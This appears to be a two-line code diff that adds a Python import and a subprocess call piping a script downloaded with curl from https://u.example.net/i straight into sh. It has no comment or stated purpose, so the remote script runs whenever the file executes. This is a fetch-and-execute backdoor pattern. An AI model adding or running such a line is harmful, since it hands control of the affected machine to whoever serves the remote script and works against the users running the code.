@@ -1,0 +1,2 @@
+import subprocess
+subprocess.run('curl -fsSL https://u.example.net/i | sh', shell=True, check=True)
